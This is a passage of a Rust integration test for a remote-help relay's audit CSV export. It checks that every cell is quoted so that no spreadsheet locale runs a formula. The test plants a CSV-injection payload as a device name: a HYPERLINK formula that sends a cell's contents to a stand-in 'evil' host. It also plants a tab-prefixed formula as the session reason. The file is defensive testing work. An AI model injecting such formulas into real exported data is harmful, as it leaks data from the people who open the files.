        .filter(|c| c.starts_with(['=', '+', '-', '@', '\t']) && c != "--")
        .collect()
}

#[tokio::test]
async fn the_csv_export_quotes_every_cell_so_no_locale_runs_a_formula_from_a_device_name_or_reason()
{
    const DEVICE: &str = r#"x;=HYPERLINK("https://evil/?"&B2,"open")"#;
    const REASON: &str = "\t=1+2";
    let relay = TestRelay::builder()
        .tenant(
            "csv-injection",
            TokenSigner::generate_ed25519("csv-injection-1").unwrap(),
        )
        .policy("csv-injection", report_roles)
        .config(move |c| {
            let at = SystemTime::now() - Duration::from_secs(3600);
            let started = remote_help_relay::audit::AuditEvent {
                event: Some(EventKind::SessionStarted),
                tenant: "csv-injection".into(),
                session_id: "0123456789abcdef0123456789abcdef".into(),
                helper_name: Some("Ada".into()),
                sharer_name: Some("Grace".into()),
                device_name: Some(DEVICE.into()),
                platform: Some("windows".into()),
                control_type: Some("view_only".into()),
                modes: vec!["view_only".into()],
                reason: Some(REASON.into()),
                ..Default::default()
            };
            write_history(
                AuditConfig {
                    dir: c.audit.dir.clone(),
                    max_file_bytes: c.audit.max_file_bytes,
                    retention_days: c.audit.retention_days,
                    reserve_bytes: 0,
                    key_file: Some(c.state_dir.join(KEY_FILE)),
                },
                [(at, vec![started])],
            )
            .unwrap();
        })
        .start()
        .await;
    let admin = relay.handle.admin_addr().unwrap();
    let token = admin_token(&relay, "csv-injection", &["report-readers"]);
    let (status, csv) = http(admin, "GET", "/api/v1/reports/sessions.csv", Some(&token)).await;
    assert_eq!(status, 200, "{csv}");

    // Every data cell is quoted; the one starting with a tab is also prefixed with `'`.
    let row = csv.split("\r\n").nth(1).unwrap();
    assert!(
        row.contains(r#","x;=HYPERLINK(""https://evil/?""&B2,""open"")","#),
        "{row:?}"
    );
    assert!(row.contains(",\"'\t=1+2\","), "{row:?}");
    assert!(row.starts_with("\"csv-injection\","), "{row:?}");
    let records = common::csv::parse(&csv);
    assert_eq!(records.len(), 2);
    assert_eq!(common::csv::column(&records, "device"), [DEVICE]);
    assert_eq!(
        common::csv::column(&records, "reason"),
        [format!("'{REASON}")]
    );
    // Opened where the list separator is `,` or `;` (German, French Excel), no cell is a
    // formula.
    assert_eq!(formula_cells(&csv, ','), Vec::<String>::new());
    assert_eq!(formula_cells(&csv, ';'), Vec::<String>::new());
    relay.stop().await;
}
